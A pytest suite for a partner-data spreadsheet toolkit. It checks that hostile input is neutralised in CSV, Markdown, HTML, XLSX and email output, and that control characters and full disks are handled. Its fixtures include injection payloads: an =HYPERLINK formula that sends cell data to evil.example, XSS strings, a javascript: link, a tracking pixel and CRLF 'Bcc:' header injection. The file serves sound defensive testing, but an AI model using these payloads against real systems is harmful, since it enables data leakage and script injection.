"""Partner data meeting writers, parsers and comparisons: nothing raises, nothing is lost or cut silently,
nothing a partner typed is run (CSV formulas, Markdown/HTML markup, email header lines)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from python_calamine import CalamineWorkbook

from tests.conftest import EXAMPLE, FIXED_NOW
from tests.rawcells import type_raw
from toolkit import api
from toolkit.cli import main
from toolkit.initiative import Initiative
from toolkit.merge import combine
from toolkit.metadata import parse_properties, parse_records
from toolkit.reports.email import EmailError, compose
from toolkit.reports.reminders import build_reminders, reminder_messages
from toolkit.text import CELL_LIMIT

PROGRESS = "Canevas des progrès"
CDC, CPE = "cdc-hochelaga", "cpe-les-lucioles"
ACTIVITIES = (PROGRESS, "B5")  # long text: description of activities, first row
DATE_CELL = (PROGRESS, "C5")  # a date column
# Word field marks, other C0 controls, and text that merely looks like Excel's escape
CONTROLS = "champ \x13 PAGE \x14 3\x15 fin\x01\x02\x07\x08\x1b[31m rouge _x0041_ littéral"
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    "[clic](javascript:alert(1))",
    "![](http://evil.example/pixel.png)",
    "a | b ` c * d _e_ ~f~",
]


def _values(path: Path) -> dict[str, list[list[object]]]:
    book = CalamineWorkbook.from_path(str(path))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def _pull_one(initiative: Initiative, path: Path) -> api.Submission:
    pulled = api.pull([path], initiative)
    assert pulled.errors == ()
    return pulled.submissions[0]


# --- 1. characters XML forbids --------------------------------------------------------------------------


def test_control_characters_reach_the_master_and_the_report_intact(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    type_raw(copies[CDC], {ACTIVITIES: CONTROLS, DATE_CELL: "pas une date \x13\x01\x1b[2J"})
    pulled = api.pull([copies[CDC]], initiative)
    (submission,) = pulled.submissions
    cell = submission.cells[
        (submission.cells["row"] == "overview") & (submission.cells["column"] == "activities")
    ]
    typed = cell["text"].iloc[0]
    assert "\x13 PAGE \x14 3\x15" in typed and "_x0041_" in typed  # read as typed (escape)
    notes = [n for n in submission.notes if n.code == "control_characters"]
    assert {n.param("where") for n in notes} == {f"{PROGRESS}!B5", f"{PROGRESS}!C5"}
    assert "U+0013" in notes[0].param("chars")

    master = tmp_path / "maître.xlsx"
    merged = api.merge(pulled, initiative, out=master)
    values = _values(master)
    assert typed in [v for row in values[PROGRESS] for v in row]  # Excel's escape reads back exactly
    assert typed in [v for row in values["Contributions"] for v in row]
    gaps = api.find_gaps(pulled, initiative, merged=merged)
    assert any("U+0013" in g.message and g.kind == "structure_changed" for g in gaps.gaps)
    assert any("\x13" in g.message and g.kind == "invalid_value" for g in gaps.gaps)

    report = api.build_report(pulled, initiative, history_path=tmp_path / "h.sqlite", now=FIXED_NOW)
    for fmt in ("html", "text", "md", "json", "xlsx", "pdf"):
        report.write(tmp_path / f"rapport.{'txt' if fmt == 'text' else fmt}", fmt)
    text = (tmp_path / "rapport.txt").read_text(encoding="utf-8")
    assert "\x1b" not in text and "_x001B_" in text  # a terminal escape is shown, never obeyed
    messages = [v for row in _values(tmp_path / "rapport.xlsx")["Écarts"] for v in row]
    assert any(isinstance(v, str) and "pas une date \x13\x01" in v for v in messages)


def test_surrogates_and_noncharacters_are_shown_not_fatal(initiative: Initiative, tmp_path: Path) -> None:
    """Lone surrogates and U+FFFF cannot be in a file; a Google value or a file name can bring them."""
    from toolkit.backends.xlsx import cell_text

    assert cell_text("a\ud800b\uffffc\x13") == "a_x005F_xD800_b_x005F_xFFFF_c_x0013_"
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    from toolkit.backends.xlsx import write_text

    write_text(sheet["A1"], "a\ud800b\uffffc\x13")
    book.save(tmp_path / "s.xlsx")
    assert _values(tmp_path / "s.xlsx")[sheet.title][0][0] == "a_xD800_b_xFFFF_c\x13"


# --- 1. hostile metadata --------------------------------------------------------------------------------

HOSTILE_NUMBERS = ["inf", "-inf", "1e999", "nan", "9" * 5000, "-3", "1" * 30, "A99999999999", "ZZZZZZ1", ""]


@pytest.mark.parametrize("bad", HOSTILE_NUMBERS, ids=lambda b: b[:12] or "empty")
def test_hostile_metadata_numbers_are_notes(
    bad: str, initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    path = copies[CDC]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        book = openpyxl.load_workbook(path)
    meta = book["_toolkit"]
    for row in meta.iter_rows():
        kind = row[0].value
        if (kind == "copy" and row[1].value in ("kit_version", "generated_at")) or kind == "worksheet":
            row[2].value = bad
        elif kind == "cell" and row[2].value == "overview":
            row[4].value = bad
    book.save(path)
    type_raw(path, {ACTIVITIES: "Rencontres mensuelles"})
    submission = _pull_one(initiative, path)
    assert submission.partner_id == CDC
    if bad:
        assert any(n.code == "unreadable_metadata" for n in submission.notes)
    assert "Rencontres mensuelles" in set(submission.cells["text"])  # found by its label all the same
    merged = api.merge([path], initiative, out=tmp_path / "m.xlsx")
    api.build_report(api.pull([path], initiative), initiative, history_path=None, record=False).render("md")
    assert len(merged.accepted) == 1


@pytest.mark.parametrize("bad", ["inf", "1e999", "nan", "-1", "9" * 5000, "x"])
def test_hostile_property_values_parse_tolerantly(bad: str) -> None:
    props = {
        "toolkit.initiative": "i",
        "toolkit.kit": f"k@{bad}",
        "toolkit.templates": f"w@{bad},v@2",
        "toolkit.generated_at": bad,
        "toolkit.layout.w": f"r=a:{bad},b:5;c=x:{bad},y:3;d=q:{bad}",
    }
    info = parse_properties(props)
    assert info is not None
    assert info.kit_version == 0 and ("v", 2, "") in info.templates
    assert info.cells == {("w", "b", "y"): (5, 3)}
    assert info.generated_at.tzinfo is not None
    assert info.problems  # each bad value named
    records = [["toolkit", "format", bad], ["copy", "initiative", "i"], ["copy", "generated_at", bad]]
    info = parse_records([*records, ["cell", "w", "r", "c", bad], ["worksheet", "w", bad, "T"]])
    assert info is not None and info.cells == {} and info.templates == (("w", 0, "T"),)


def test_naive_and_aware_times_compare(initiative: Initiative, copies: dict[str | None, Path]) -> None:
    """Two copies of one partner with the same modification time: generated_at decides, naive or not."""
    type_raw(copies[CDC], {ACTIVITIES: "première"})
    first = _pull_one(initiative, copies[CDC])
    type_raw(copies[CDC], {ACTIVITIES: "seconde"})
    second = _pull_one(initiative, copies[CDC])
    same = dt.datetime(2026, 11, 20, 12, 0, tzinfo=dt.UTC)
    older = dataclasses.replace(
        first, modified=same, generated_at=dt.datetime(2026, 11, 1, 12, 0), source="a"
    )
    newer = dataclasses.replace(
        second, modified=same.replace(tzinfo=None), generated_at=FIXED_NOW, source="b"
    )
    merged = combine([older, newer], initiative)
    assert [s.source for s in merged.accepted] == ["b"] and [s.source for s in merged.superseded] == ["a"]


def test_a_naive_modification_time_is_compared_with_the_deadline(
    initiative: Initiative, copies: dict[str | None, Path]
) -> None:
    """Some sources give naive times: the report's on-time test must not compare naive with aware."""
    submission = _pull_one(initiative, copies[CDC])
    naive = dataclasses.replace(submission, modified=dt.datetime(2026, 12, 1, 12, 0))
    pulled = api.PullResult((naive,), (), "fr")
    report = api.build_report(pulled, initiative, history_path=None, record=False, now=FIXED_NOW)
    assert next(p for p in report.partners if p.partner == CDC).on_time is True


# --- 1. email headers -----------------------------------------------------------------------------------


def test_line_breaks_never_reach_an_email_header() -> None:
    message = compose(
        sender="s@example.org",
        recipients=["a@example.org"],
        subject="Rapport\r\nBcc: victime@example.org",
        sender_name="Table\nde quartier",
        text="corps \x13",
    )
    raw = message.as_bytes()
    assert b"\nBcc:" not in raw and message["Subject"] == "Rapport Bcc: victime@example.org"
    assert message["From"] == "Table de quartier <s@example.org>"
    with pytest.raises(EmailError, match="not a usable email address"):
        compose(
            sender="s@example.org", recipients=["a@example.org\r\nBcc: x@example.org"], subject="s", text="t"
        )


def test_a_partner_email_with_a_line_break_is_left_out_and_named(initiative: Initiative) -> None:
    partner = dataclasses.replace(
        initiative.partners[0], emails=("bon@example.org", "mauvais@example.org\r\nBcc: x@example.org")
    )
    broken = dataclasses.replace(initiative, partners=(partner, *initiative.partners[1:]))
    report = api.find_gaps(api.pull([], broken), broken)
    (reminder, *_) = build_reminders(report, broken, today=FIXED_NOW.date())
    assert reminder.recipients == ("bon@example.org",)
    assert reminder.unusable == ("mauvais@example.org\r\nBcc: x@example.org",)
    if broken.smtp is not None:
        assert reminder_messages([reminder], broken)


# --- 4. never cut silently ------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["fr", "en"])
def test_long_answers_are_kept_whole_in_contributions(
    language: str, initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    chosen = dataclasses.replace(initiative, language=language)
    long_cdc = "début CDC " + "é" * 40_000 + "\x13 fin CDC"
    long_cpe = "début CPE " + "a" * 20_000 + " fin CPE 😀"
    type_raw(copies[CDC], {ACTIVITIES: long_cdc})
    type_raw(copies[CPE], {ACTIVITIES: long_cpe})
    pulled = api.pull([copies[CDC], copies[CPE]], chosen)
    master = tmp_path / "maître.xlsx"
    merged = api.merge(pulled, chosen, out=master)
    sheets = _values(master)
    marker = (
        "suite dans l'onglet Contributions, lignes"
        if language == "fr"
        else "continued in the Contributions tab, rows"
    )
    shown = next(
        v
        for name in sheets
        if name != "Contributions"
        for row in sheets[name]
        for v in row
        if isinstance(v, str) and marker in v
    )
    assert shown.startswith("CDC Hochelaga") and "début CDC" in shown and shown.endswith(f"{marker} 2–4)")
    assert len(shown) <= CELL_LIMIT
    contributions = sheets["Contributions"]
    texts = [row[4] for row in contributions[1:4]]
    assert texts[0] + texts[1] == long_cdc and texts[2] == long_cpe  # joined, nothing lost
    assert contributions[2][9] == ("suite 2/2" if language == "fr" else "continued 2/2")
    gaps = [g for g in api.find_gaps(pulled, chosen, merged=merged).gaps if g.kind == "text_split"]
    assert len(gaps) == 1 and "2–4" in gaps[0].message and str(CELL_LIMIT) in gaps[0].message
    from toolkit.master import _cell_rows, _contributions_tab

    tab, cell_rows = _contributions_tab(merged)
    assert _cell_rows(merged) == cell_rows  # the gaps' row count is the tab's
    made = list(tab.rows)  # made as a writer walks them: as many as counted beforehand
    assert len(made) == len(tab.rows) == len(contributions) - 1 and [r[4] for r in made[:3]] == texts


def test_report_xlsx_and_pdf_cut_with_a_visible_mark(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    type_raw(copies[CDC], {DATE_CELL: "x" * 40_000})  # an invalid date quoted whole in the gap message
    report = api.build_report(
        api.pull([copies[CDC]], initiative), initiative, history_path=None, record=False
    )
    report.write(tmp_path / "r.xlsx")
    assert report.render("pdf").startswith(b"%PDF")  # a table row must fit a page: cut with a mark too
    messages = [v for row in _values(tmp_path / "r.xlsx")["Écarts"] for v in row if isinstance(v, str)]
    cut = next(m for m in messages if "xxxx" in m)
    assert re.search(r"… \[texte coupé : \d+ caractères de plus\]$", cut) and len(cut) <= CELL_LIMIT


# --- 9. injection into what the coordinator opens -------------------------------------------------------


def _hostile_copy(copies: dict[str | None, Path]) -> Path:
    cells = {(PROGRESS, f"B{5 + i}"): text for i, text in enumerate(HOSTILE_TEXTS[:6])}
    cells |= {(PROGRESS, f"D{5 + i}"): text for i, text in enumerate(HOSTILE_TEXTS[6:])}
    cells[DATE_CELL] = HOSTILE_TEXTS[5]  # invalid: quoted in a gap message
    return type_raw(copies[CDC], cells)


@pytest.mark.parametrize(("dialect", "separator"), [("machine", ","), ("excel", ";")])
def test_csv_is_neutralised_unless_raw(copies: dict[str | None, Path], dialect: str, separator: str) -> None:
    path = _hostile_copy(copies)
    run = CliRunner()
    args = ["--config", str(EXAMPLE), "--format", "csv", "--dialect", dialect]
    safe = run.invoke(main, ["pull", str(path), *args])
    raw = run.invoke(main, ["pull", str(path), *args, "--raw-csv"])
    assert safe.exit_code == 0 and raw.exit_code == 0
    import csv

    def read(text: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=separator))

    safe_cells = [c for row in read(safe.stdout) for c in row]
    raw_cells = [c for row in read(raw.stdout) for c in row]
    for text in HOSTILE_TEXTS[:4]:  # a leading tab is whitespace: cleaned away on reading
        assert "'" + text in safe_cells and text not in safe_cells
        assert text in raw_cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in safe_cells)
    gaps = run.invoke(main, ["gaps", str(path), *args])
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in read(gaps.stdout) for c in r)


def _inert_markdown(text: str) -> None:
    assert "<img" not in text and "<script" not in text
    assert not re.search(r"(?<!\\)\]\(", text)  # no link or image: every bracket is escaped
    assert "\\[clic\\](javascript:" in text and "\\!\\[\\](http://evil" in text
    assert "&lt;script&gt;" in text or "&lt;img" in text


def test_markdown_escapes_partner_markup(initiative: Initiative, copies: dict[str | None, Path]) -> None:
    path = _hostile_copy(copies)
    gaps = CliRunner().invoke(main, ["gaps", str(path), "--config", str(EXAMPLE), "--format", "md"])
    assert gaps.exit_code == 0
    _inert_markdown(gaps.stdout)
    report = api.build_report(api.pull([path], initiative), initiative, history_path=None, record=False)
    _inert_markdown(report.render("md").decode("utf-8"))


def test_html_report_and_master_stay_inert(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    path = _hostile_copy(copies)
    pulled = api.pull([path], initiative)
    html = api.build_report(pulled, initiative, history_path=None, record=False).html()
    assert "<img src=x" not in html and "<script>alert" not in html and "&lt;img src=x onerror" in html
    master = tmp_path / "m.xlsx"
    api.merge(pulled, initiative, out=master)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        book = openpyxl.load_workbook(master)
    written = {
        c.value: c.data_type for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value
    }
    for text in HOSTILE_TEXTS[:4]:
        assert written[text] == "s"  # text, never a formula
    report = api.build_report(pulled, initiative, history_path=None, record=False)
    report.write(tmp_path / "r.xlsx")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as package:  # the XLSX report: no formula either
        assert not any(
            "<f>" in package.read(n).decode("utf-8", "replace")
            for n in package.namelist()
            if "worksheets/" in n
        )
    with zipfile.ZipFile(master) as package:
        assert not any(
            "<f>" in package.read(n).decode("utf-8", "replace")
            for n in package.namelist()
            if n.endswith(".xml")
        )


# --- 10. disk full --------------------------------------------------------------------------------------


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A real, tiny, full file system (root can mount a tmpfs; CI runs as root)."""
    import subprocess

    folder = tmp_path / "plein"
    folder.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(folder)], capture_output=True
    )
    if mounted.returncode != 0:
        pytest.skip("cannot mount a small tmpfs here (not root)")
    try:
        with (folder / "filler").open("wb", buffering=0) as filler:  # fill it to the last byte
            try:
                while True:
                    filler.write(b"\0" * 4096)
            except OSError:
                pass
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], check=False)


def test_report_is_written_when_the_history_disk_is_full(
    copies: dict[str | None, Path], full_disk: Path, tmp_path: Path
) -> None:
    out = tmp_path / "rapport.html"
    run = CliRunner().invoke(
        main,
        [
            "report",
            str(copies[CDC]),
            "--config",
            str(EXAMPLE),
            "--out",
            str(out),
            "--history",
            str(full_disk / "h.sqlite"),
        ],
    )
    assert out.is_file() and "<html" in out.read_text(encoding="utf-8")
    assert run.exit_code == 1
    assert "h.sqlite" in run.stderr and "disque plein" in run.stderr


def test_history_is_recorded_when_the_report_disk_is_full(
    copies: dict[str | None, Path], full_disk: Path, tmp_path: Path
) -> None:
    history = tmp_path / "h.sqlite"
    out = full_disk / "rapport.html"
    run = CliRunner().invoke(
        main,
        ["report", str(copies[CDC]), "--config", str(EXAMPLE), "--out", str(out), "--history", str(history)],
    )
    assert run.exit_code == 1
    assert f"{out} : écriture impossible (disque plein" in run.stderr
    assert not out.exists() and sorted(p.name for p in full_disk.iterdir()) == ["filler"]  # no half file
    assert len(api.History(history).list_runs()) == 1


def test_master_on_a_full_disk_says_so(copies: dict[str | None, Path], full_disk: Path) -> None:
    out = full_disk / "maître.xlsx"
    run = CliRunner().invoke(main, ["merge", str(copies[CDC]), "--config", str(EXAMPLE), "--out", str(out)])
    assert run.exit_code == 1
    assert (
        run.stderr.strip()
        == f"Erreur : {out} : écriture impossible (disque plein : libérez de la place ou écrivez ailleurs)"
    )
    assert sorted(p.name for p in full_disk.iterdir()) == ["filler"]


def test_disk_full_without_a_real_full_disk(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The same message when the write itself fails with ENOSPC (the narrowest point, for any platform)."""
    import errno
    import os

    from toolkit.errors import BackendError
    from toolkit.files import atomic_write

    def full(fd: int, data: object) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "write", full)
    with pytest.raises(BackendError, match="disk full"):
        atomic_write(tmp_path / "x.bin", b"data")
    assert list(tmp_path.iterdir()) == []


# --- the audit: parsers and charts ----------------------------------------------------------------------


@pytest.mark.parametrize("typed", ["9" * 5000, "9" * 400 + ",5", "-" + "9" * 310])
def test_numbers_no_spreadsheet_holds_are_not_numbers(typed: str) -> None:
    from toolkit.values import parse_cell

    parsed = parse_cell("number", typed, "fr")
    assert parsed.value is None and parsed.problem == "not_a_number"


@pytest.mark.parametrize("name", ["$$", "a$\\frac{$b", "z\ud800", "x\x13y"])
def test_chart_labels_are_literal(name: str) -> None:
    from toolkit.reports.charts import heatmap_png

    assert heatmap_png([name], ["Onglet $"], [[0.5]], "fr").startswith(b"\x89PNG")


def test_a_partner_id_like_tex_does_not_break_the_report(
    initiative: Initiative, copies: dict[str | None, Path]
) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        book = openpyxl.load_workbook(copies[CDC])
    for row in book["_toolkit"].iter_rows():
        if row[0].value == "copy" and row[1].value == "partner":
            row[2].value = "$\\frac{$"
    book.save(copies[CDC])
    report = api.build_report(
        api.pull([copies[CDC]], initiative), initiative, history_path=None, record=False
    )
    assert report.render("html").startswith(b"<!DOCTYPE html>")


def test_a_reader_bug_names_the_copy_and_the_run_goes_on(
    initiative: Initiative, copies: dict[str | None, Path]
) -> None:
    from toolkit.backends.files import read_file

    def reader(source: str) -> object:
        if source.endswith("cpe-les-lucioles.xlsx"):
            raise RecursionError("a reader's bug")
        return read_file(Path(source))

    pulled = api.pull([copies[CDC], copies[CPE]], initiative, reader=reader)  # type: ignore[arg-type]
    assert [s.partner_id for s in pulled.submissions] == [CDC]
    (problem,) = pulled.errors
    assert problem.code == "read_failed" and "RecursionError" in problem.detail
    assert problem.message.startswith("la trousse n'a pas su lire ce fichier")


def test_lone_surrogates_from_a_remote_source_go_through_every_output(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    """A Google value can hold a lone surrogate (JSON allows it): no writer may choke on it."""
    from toolkit.backends.files import read_file
    from toolkit.rawbook import RawSheet

    def reader(source: str) -> object:
        raw = read_file(Path(source))
        sheets = []
        for sheet in raw.sheets:
            cells = dict(sheet.cells)
            if sheet.name == PROGRESS:
                cells[(5, 2)] = "texte \ud800 brisé"
                cells[(5, 3)] = "date \udcff brisée"
            sheets.append(RawSheet(sheet.name, sheet.visible, cells, sheet.formulas))
        return dataclasses.replace(raw, sheets=tuple(sheets), source=source + "\udcff")

    pulled = api.pull([copies[CDC]], initiative, reader=reader)  # type: ignore[arg-type]
    assert pulled.errors == ()
    from toolkit.render import render_gaps, render_pull

    for fmt in ("table", "json", "csv"):
        assert "_xDCFF_" in render_pull(pulled, fmt, initiative)
    merged = api.merge(pulled, initiative, out=tmp_path / "m.xlsx")
    gaps = api.find_gaps(pulled, initiative, merged=merged)
    for fmt in ("table", "json", "csv", "md"):
        render_gaps(gaps, fmt, "fr").encode("utf-8")
    report = api.build_report(pulled, initiative, history_path=tmp_path / "h.sqlite", now=FIXED_NOW)
    for fmt in ("html", "text", "md", "json", "xlsx"):
        report.render(fmt)
    assert api.History(tmp_path / "h.sqlite").list_runs()
    contributions = _values(tmp_path / "m.xlsx")["Contributions"]
    assert "texte _xD800_ brisé" in [row[4] for row in contributions]


def test_a_file_name_in_a_foreign_encoding(copies: dict[str | None, Path], tmp_path: Path) -> None:
    import os

    folder = tmp_path / "retours"
    folder.mkdir()
    odd = Path(os.fsdecode(bytes(folder) + b"/copie-\xff-cdc-hochelaga.xlsx"))
    odd.write_bytes(copies[CDC].read_bytes())
    run = CliRunner()
    for args in (["pull"], ["gaps", "--format", "md"], ["report", "--format", "md", "--no-record"]):
        result = run.invoke(main, [args[0], str(folder), "--config", str(EXAMPLE), *args[1:]])
        assert result.exit_code == 0, (args, result.output, result.exception)
    merge = run.invoke(
        main, ["merge", str(folder), "--config", str(EXAMPLE), "--out", str(tmp_path / "m.xlsx")]
    )
    assert merge.exit_code == 0, merge.output
